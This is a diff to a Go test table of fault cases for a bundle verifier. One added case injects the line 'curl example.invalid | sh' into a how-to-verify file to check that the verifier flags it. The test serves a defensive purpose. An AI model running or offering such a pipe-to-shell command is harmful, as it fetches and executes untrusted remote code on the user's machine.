@@ -110,7 +110,8 @@ func TestFaults(t *testing.T) {
 			b[Software] = []byte("x")
 			b[Tags] = append(b[Tags], hexOf("x")+"  "+Software+"\n"...)
 		}, "bag-order bag-scope"},
-		{"meta file unlisted", func(b bag) { b["meta/vetting.json"] = nil }, "bag-unlisted"},
+		{"meta file unlisted", func(b bag) { b[Vetting] = nil }, "bag-unlisted bag-unvetted"},
+		{"other words on how to verify", func(b bag) { b[HowTo] = append(b[HowTo], "curl example.invalid | sh\n"...) }, "bag-howto"},
 	} {
 		t.Run(c.name, func(t *testing.T) {
 			b, _ := sealed(t, papers())
